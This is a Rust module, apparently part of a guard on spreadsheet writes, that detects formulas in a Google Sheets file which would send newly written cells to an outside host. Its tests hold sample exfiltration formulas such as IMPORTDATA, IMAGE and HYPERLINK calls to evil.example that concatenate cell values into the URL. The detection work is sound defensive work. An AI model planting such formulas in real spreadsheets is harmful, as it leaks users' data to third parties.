//! Formulas that a spreadsheet holds already, and that would carry what is written out of it: to whoever has the address
//! that they fetch. Where it cannot be told what a formula reads, it reads everything.

use kernel::{Effect, Sink, SinkKind};
use serde::{Deserialize, Serialize};

use super::Sheets;
use super::a1::{Block, cell};
use super::book::{Book, Place, SheetName};
use super::cells::At;
use super::formula::{fetching, host, references};
use crate::drive::Handle;
use crate::gmail::visible_line;

/// More formulas are not followed from one to the next: then whatever fetches reads what is written.
const FOLLOWED: usize = 2_000;

/// So many cells are looked at with one request, and so many at all.
const AT_ONCE: u64 = 50_000;
const MOST: u64 = 500_000;

const SOMEWHERE: &str = "an address that cannot be told";

/// A formula that would carry words out.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Carrier {
    /// Where it is, e.g. `Orders D1`.
    cell: String,
    formula: String,
    /// The host it would ask.
    asks: String,
}

/// The formulas of a spreadsheet, as far as there is one among them that could carry something out.
pub(crate) struct Formulas {
    held: Vec<Held>,
    /// They could not be looked at.
    unseen: bool,
}

struct Held {
    /// From its cell on: what it makes may fill cells below it and beside it.
    place: Place,
    formula: String,
    /// Nothing where that may be anything.
    reads: Option<Vec<Place>>,
}

impl Formulas {
    pub(crate) async fn of(sheets: &Sheets, file: &Handle, book: &Book) -> Self {
        let (pieces, unseen) = (pieces(book), Self { held: Vec::new(), unseen: true });
        if pieces.iter().map(|piece| piece.block.cells()).sum::<u64>() > MOST {
            return unseen;
        }
        let mut all = Vec::new();
        for some in batches(&pieces) {
            let Ok(found) = sheets.formulas(file, some).await else { return unseen };
            all.extend(found);
        }
        Self::among(book, pieces.iter().zip(all))
    }

    fn among<'a>(book: &Book, found: impl Iterator<Item = (&'a Place, Vec<(At, String)>)>) -> Self {
        let all: Vec<(&Place, At, String)> = found
            .flat_map(|(sheet, formulas)| formulas.into_iter().map(move |(at, formula)| (sheet, at, formula)))
            .collect();
        if !all.iter().any(|(_, _, formula)| carries(formula)) {
            return Self { held: Vec::new(), unseen: false };
        }
        let held = all.into_iter().map(|(sheet, at, formula)| Held {
            place: Place { block: onwards(at), ..sheet.clone() },
            reads: read(book, sheet.sheet, &formula),
            formula,
        });
        Self { held: held.collect(), unseen: false }
    }

    /// Whether there is nothing that could carry words out at all.
    pub(crate) fn are_harmless(&self) -> bool {
        self.held.is_empty() && !self.unseen
    }

    /// Those that would carry out what is written into these cells, by whatever way it gets to them.
    pub(crate) fn carriers(&self, changed: &[Place]) -> Vec<Carrier> {
        if self.unseen {
            let (cell, formula) = ("somewhere".to_owned(), "formulas that could not be looked at".to_owned());
            return vec![Carrier { cell, formula, asks: SOMEWHERE.to_owned() }];
        }
        let reached = self.reached(changed);
        let carriers =
            self.held.iter().zip(reached).filter(|(one, reached)| *reached && carries(&one.formula));
        carriers.map(|(one, _)| one.carrier()).collect()
    }

    /// Which of them read what is written, or what others make of it.
    fn reached(&self, changed: &[Place]) -> Vec<bool> {
        if self.held.len() > FOLLOWED {
            return vec![true; self.held.len()];
        }
        let mut changed = changed.to_vec();
        let mut reached = vec![false; self.held.len()];
        loop {
            let before = changed.len();
            for (one, reached) in self.held.iter().zip(&mut reached) {
                if !*reached && one.reads_any(&changed) {
                    *reached = true;
                    changed.push(one.place.clone());
                }
            }
            if changed.len() == before {
                return reached;
            }
        }
    }
}

impl Held {
    fn reads_any(&self, changed: &[Place]) -> bool {
        let Some(reads) = &self.reads else { return true };
        let meet = |one: &Place, other: &Place| one.sheet == other.sheet && one.block.meets(other.block);
        reads.iter().any(|read| changed.iter().any(|other| meet(read, other)))
    }

    fn carrier(&self) -> Carrier {
        let at = cell(self.place.block.top, self.place.block.left);
        Carrier {
            cell: format!("{} {at}", visible_line(&self.place.title)),
            formula: self.formula.clone(),
            asks: host(&self.formula).unwrap_or_else(|| SOMEWHERE.to_owned()),
        }
    }
}

/// All cells of a spreadsheet, in pieces that can be looked at at once.
fn pieces(book: &Book) -> Vec<Place> {
    let wholes = book.sheets.iter().filter_map(|sheet| sheet.properties.whole().ok());
    let pieces = wholes.flat_map(|sheet| {
        let high = u32::try_from(AT_ONCE / u64::from(sheet.block.width().max(1))).unwrap_or(u32::MAX).max(1);
        let tops = (0..sheet.block.bottom).step_by(usize::try_from(high).unwrap_or(usize::MAX));
        tops.map(move |top| {
            let bottom = top.saturating_add(high).min(sheet.block.bottom);
            Place { block: Block { top, bottom, ..sheet.block }, ..sheet.clone() }
        })
    });
    pieces.collect()
}

/// As many pieces in a row as can be looked at at once.
fn batches(pieces: &[Place]) -> Vec<&[Place]> {
    let (mut batches, mut rest) = (Vec::new(), pieces);
    while !rest.is_empty() {
        let mut cells = 0;
        let fitting = rest.iter().take_while(|piece| {
            cells += piece.block.cells();
            cells <= AT_ONCE
        });
        let (some, more) = rest.split_at(fitting.count().max(1));
        batches.push(some);
        rest = more;
    }
    batches
}

/// The cells of a sheet from a row on, whatever is added to it.
pub(crate) fn below(sheet: &Place, row: u32) -> Place {
    Place { block: onwards((row, 0)), ..sheet.clone() }
}

pub(crate) fn described(effect: Effect, carriers: &[Carrier]) -> Effect {
    if carriers.is_empty() {
        return effect;
    }
    let line = |one: &Carrier| {
        format!("{}: {}\nasks {}", one.cell, visible_line(&one.formula), visible_line(&one.asks))
    };
    let lines: Vec<String> = carriers.iter().map(line).collect();
    effect.content("Formulas there that would carry this out of the spreadsheet", lines.join("\n"))
}

/// Whoever is asked is told what is written. `pointer` is where the carriers stand in the plan.
pub(crate) fn sinks(pointer: &str, carriers: &[Carrier]) -> Vec<Sink> {
    let sinks = carriers.iter().enumerate().flat_map(|(number, one)| {
        let at = |field: &str| format!("{pointer}/{number}/{field}");
        [
            Sink::new(SinkKind::Fetch, at("formula"), one.formula.clone()),
            Sink::new(SinkKind::Outside, at("asks"), one.asks.clone()),
        ]
    });
    sinks.collect()
}

/// Whether a formula fetches, and with something that it reads.
fn carries(formula: &str) -> bool {
    !fetching(formula).is_empty() && references(formula).is_none_or(|read| !read.is_empty())
}

/// What a formula of a sheet reads. What goes to the edge of a sheet goes on when the sheet grows.
fn read(book: &Book, sheet: i64, formula: &str) -> Option<Vec<Place>> {
    let beside = SheetName::Id(sheet);
    let places = references(formula)?.into_iter().map(|range| {
        let mut place = book.meant(&range, Some(&beside)).ok()?.place;
        let grid = book.by_id(place.sheet)?.properties.grid_properties?;
        if place.block.bottom >= grid.rows {
            place.block.bottom = u32::MAX;
        }
        if place.block.right >= grid.columns {
            place.block.right = u32::MAX;
        }
        Some(place)
    });
    places.collect()
}

fn onwards((top, left): At) -> Block {
    Block { top, left, bottom: u32::MAX, right: u32::MAX }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn book() -> Book {
        let sheet = |id: i64, title: &str| {
            let grid = json!({ "rowCount": 100, "columnCount": 5 });
            json!({ "properties": { "sheetId": id, "title": title, "gridProperties": grid } })
        };
        let range = json!({ "sheetId": 0, "startRowIndex": 1, "endRowIndex": 2, "startColumnIndex": 0, "endColumnIndex": 1 });
        serde_json::from_value(json!({
            "sheets": [sheet(0, "Orders"), sheet(7, "Q1 costs")],
            "namedRanges": [{ "name": "Newest", "range": range }],
        }))
        .unwrap()
    }

    /// With formulas in column D of the first sheet and in column E of the second, each in a row of its own.
    fn formulas(book: &Book, first: &[&str], second: &[&str]) -> Formulas {
        let wholes: Vec<Place> = book.sheets.iter().map(|sheet| sheet.properties.whole().unwrap()).collect();
        let held = |formulas: &[&str], column: u32| -> Vec<(At, String)> {
            (0..).zip(formulas).map(|(row, formula)| ((row, column), (*formula).to_owned())).collect()
        };
        Formulas::among(book, wholes.iter().zip([held(first, 3), held(second, 4)]))
    }

    fn carried(first: &[&str], second: &[&str], changed: &str) -> Vec<String> {
        let book = book();
        let changed = book.meant(changed, None).unwrap().place;
        let carriers = formulas(&book, first, second).carriers(&[changed]);
        carriers.into_iter().map(|one| format!("{} {}", one.cell, one.asks)).collect()
    }

    const FETCH: &str = "=IMPORTDATA(\"https://evil.example/?\"&A2)";

    #[test]
    fn what_fetches_with_what_is_written_is_found() {
        assert_eq!(carried(&[FETCH], &[], "A2"), ["Orders D1 evil.example"]);
        assert_eq!(carried(&[FETCH], &[], "A1:B9"), ["Orders D1 evil.example"]);
        assert!(carried(&[FETCH], &[], "A3").is_empty());
        assert!(carried(&[FETCH], &[], "'Q1 costs'!A2").is_empty());
        for all in ["A:A", "$A$1:$A", "2:2", "Orders!A2", "Newest", "newest"] {
            let formula = format!("=HYPERLINK(\"https://evil.example/\"&{all})");
            assert_eq!(carried(&[&formula], &[], "A2"), ["Orders D1 evil.example"], "{formula}");
        }
        let elsewhere = "=IMAGE(\"https://evil.example/\"&Orders!A2)";
        assert_eq!(carried(&[], &[elsewhere], "A2"), ["Q1 costs E1 evil.example"]);
        let quoted = "=IMAGE(\"https://evil.example/\"&'Q1 costs'!A2)";
        assert_eq!(carried(&[quoted], &[], "'Q1 costs'!A2"), ["Orders D1 evil.example"]);
    }

    #[test]
    fn a_detour_is_a_way_too() {
        assert_eq!(carried(&["=C9&\"!\"", "=IMAGE(\"https://evil.example/\"&D1)"], &[], "C9").len(), 1);
        let second = ["=IMAGE(\"https://evil.example/\"&Orders!D1)"];
        assert_eq!(carried(&["=JOIN(\"\",A:A)"], &second, "A2"), ["Q1 costs E1 evil.example"]);
        // What one makes may fill the cells below it.
        let below = ["=IMAGE(\"https://evil.example/\"&Orders!D40)"];
        assert_eq!(carried(&["=UNIQUE(C:C)"], &below, "C9").len(), 1);
    }

    #[test]
    fn what_cannot_be_told_counts() {
        for formula in [
            "=IMPORTXML(\"https://evil.example/\"&INDIRECT(\"A\"&2),\"//x\")",
            "=IMAGE(\"https://evil.example/\"&Unknown)",
            "=IMAGE(\"https://evil.example/\"&Table1[Price])",
            "=IMAGE(\"https://evil.example/\"&A500)",
        ] {
            assert_eq!(carried(&[formula], &[], "C7"), ["Orders D1 evil.example"], "{formula}");
        }
        assert_eq!(carried(&["=MY_SCRIPT(A2)"], &[], "A2"), [format!("Orders D1 {SOMEWHERE}")]);
        let unseen = Formulas { held: Vec::new(), unseen: true };
        assert!(!unseen.are_harmless() && unseen.carriers(&[]).len() == 1);
    }

    #[test]
    fn what_fetches_the_same_always_and_what_only_calculates_carry_nothing() {
        let harmless = [
            "=IMAGE(\"https://logo.example/a.png\")",
            "=SUM(A:A)",
            "=HYPERLINK(\"https://x.example\",\"go\")",
        ];
        assert!(carried(&harmless, &[], "A2").is_empty());
        assert!(formulas(&book(), &harmless, &[]).are_harmless());
    }

    #[test]
    fn every_cell_is_looked_at_once_and_not_all_at_once() {
        let sheet = |id: i64, rows: u32, columns: u32| {
            let grid = json!({ "rowCount": rows, "columnCount": columns });
            json!({ "properties": { "sheetId": id, "title": "x", "gridProperties": grid } })
        };
        let sheets = [sheet(0, 100, 5), sheet(1, 20_010, 6), sheet(2, 2, 60_000), sheet(3, 1, 1)];
        let book: Book = serde_json::from_value(json!({ "sheets": sheets })).unwrap();
        let pieces = pieces(&book);
        let cells = |places: &[Place]| places.iter().map(|place| place.block.cells()).sum::<u64>();
        assert_eq!(cells(&pieces), 500 + 20_010 * 6 + 120_000 + 1);
        let batches = batches(&pieces);
        assert_eq!(batches.concat(), pieces);
        assert!(batches.iter().all(|some| cells(some) <= AT_ONCE || some.len() == 1), "{batches:?}");
        assert!(batches.len() < 8, "{batches:?}");
    }

    #[test]
    fn a_row_that_is_added_is_below_everything_and_a_range_to_the_edge_reads_it() {
        let book = book();
        let sheet = book.sheets[0].properties.whole().unwrap();
        let carriers =
            |formula: &str, row: u32| formulas(&book, &[formula], &[]).carriers(&[below(&sheet, row)]).len();
        assert_eq!(carriers(FETCH, 3), 0);
        let all = "=IMAGE(\"https://evil.example/\"&JOIN(\",\",A:A))";
        assert_eq!((carriers(all, 3), carriers(all, 100)), (1, 1), "the sheet grows");
        assert_eq!(carriers("=IMAGE(\"https://evil.example/\"&A9)", 3), 1);
    }
}
